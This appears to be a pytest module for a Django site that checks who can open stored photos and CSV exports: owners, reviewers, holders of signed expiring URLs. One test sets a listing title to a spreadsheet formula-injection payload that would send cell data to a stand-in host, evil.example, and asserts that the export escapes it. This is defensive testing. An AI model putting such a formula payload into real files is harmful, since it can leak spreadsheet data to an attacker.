"""Stored files over HTTP (issue 13, item 3): a photo or an export opens for its owner (and
reviewers), or for anyone holding a signed URL until it expires — for no one else, 404.
Marketplaces get unguessable, expiring photo URLs; the file export keeps each seller's rows in
their own file, whose name cannot be guessed, with formulas escaped."""
import csv
import io
from datetime import date
from urllib.parse import urlsplit

import pytest
from django.test import Client

from boomer_site.media_urls import media_url
from listings.publishing import listing_data, product_media
from marketplaces.adapters import adapter_for
from tests.desk.conftest import PASSWORD
from tests.factories import listing_make, product_make

pytestmark = pytest.mark.django_db(transaction=True)
# Django's test client, not the live server: the live server answers /media/ itself (a static
# handler in front of the site), which production does not.


def _client(who: str, *, bearer: bool = False) -> Client:
    client = Client()
    if who == "anonymous":
        return client
    if bearer:  # the API's way: a JWT in the Authorization header
        token = client.post("/api/auth/token/", {"username": who, "password": PASSWORD},
                            content_type="application/json").json()["access"]
        return Client(HTTP_AUTHORIZATION=f"Bearer {token}")
    assert client.login(username=who, password=PASSWORD)  # the desk's way: a session
    return client


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def photo(people):
    product = product_make(owner=people["seller_a"], with_photo=True)
    return product, product.images.get()


@pytest.mark.parametrize("who, bearer, expected", [
    ("anonymous", False, 404), ("seller_b", True, 404), ("seller_b", False, 404),
    ("seller_a", True, 200), ("seller_a", False, 200), ("reviewer", False, 200)])
def test_a_photo_opens_for_its_owner_and_reviewers_only(photo, who, bearer, expected):
    _product, image = photo
    response = _client(who, bearer=bearer).get(f"/media/{image.image.name}")
    assert response.status_code == expected
    if expected == 200:
        assert _body(response)[:3] == b"\xff\xd8\xff"  # the JPEG itself


def test_the_api_links_photos_with_signed_urls_that_open_without_signing_in(photo):
    product, image = photo
    url = _client("seller_a", bearer=True).get(f"/api/products/{product.pk}/").json()["images"][0]["url"]
    path = urlsplit(url).path
    assert path.startswith("/media/signed/") and path.endswith(image.image.name)
    anonymous = Client()
    assert _body(anonymous.get(path))[:3] == b"\xff\xd8\xff"

    other = product_make(owner=product.owner, with_photo=True).images.get().image.name
    assert anonymous.get(path.replace(image.image.name, other)).status_code == 404  # the signature is for one file
    expires = path.split("/")[3].split(".")[0]
    assert anonymous.get(path.replace(f"/{expires}.", f"/{int(expires) + 86400}.")).status_code == 404  # nor later


def test_a_signed_url_stops_working_when_it_expires(photo):
    _product, image = photo
    assert Client().get(media_url(image.image.name, seconds=-1)).status_code == 404
    assert Client().get(media_url(image.image.name, seconds=60)).status_code == 200


def test_marketplaces_get_photo_urls_that_cannot_be_guessed(photo, settings):
    settings.BOOMER_PUBLIC_BASE_URL = "https://boomer.example.com"
    product, image = photo
    [media] = product_media(product)
    assert media.url.startswith("https://boomer.example.com/media/signed/") and media.url.endswith(".jpg")
    assert Client().get(urlsplit(media.url).path).status_code == 200
    assert Client().get(f"/media/{image.image.name}").status_code == 404


def _rows(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(_body(response).decode("utf-8-sig"))))


def test_the_file_export_keeps_each_seller_s_rows_in_their_own_unguessable_file(people, settings):
    settings.BOOMER_PUBLIC_BASE_URL = "https://boomer.example.com"
    exporter = adapter_for("file", credentials={})
    a_listing = listing_make(product=product_make(owner=people["seller_a"]), platform="ebay", status="PUBLISHING")
    b_listing = listing_make(product=product_make(owner=people["seller_b"], brand="Bose", model="QC45"),
                             platform="ebay", status="PUBLISHING")
    a_listing.title = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    a_result = exporter.publish(listing_data(a_listing), [])
    b_result = exporter.publish(listing_data(b_listing), [])

    a_name, b_name = a_result.raw["file"], b_result.raw["file"]
    assert a_name != b_name
    assert a_name != f"exports/file/{date.today().isoformat()}.csv"  # one predictable file for all: gone
    assert len(a_name.rsplit("/", 1)[-1]) > len(f"{date.today().isoformat()}.csv") + 16  # a random part

    link = urlsplit(a_result.listing_url)
    assert a_result.listing_url.startswith("https://boomer.example.com/media/exports/")
    assert _client("anonymous").get(link.path).status_code == 404
    assert _client("seller_b").get(link.path).status_code == 404
    mine = _client("seller_a").get(link.path)
    assert mine.status_code == 200
    rows = _rows(mine)
    assert [row["reference"] for row in rows] == [str(a_listing.idempotency_key)]  # no other seller's row
    assert rows[0]["title"] == "'" + a_listing.title  # shown by a spreadsheet, never run
    assert exporter.fetch_status(listing_data(a_listing)).status == "LIVE"
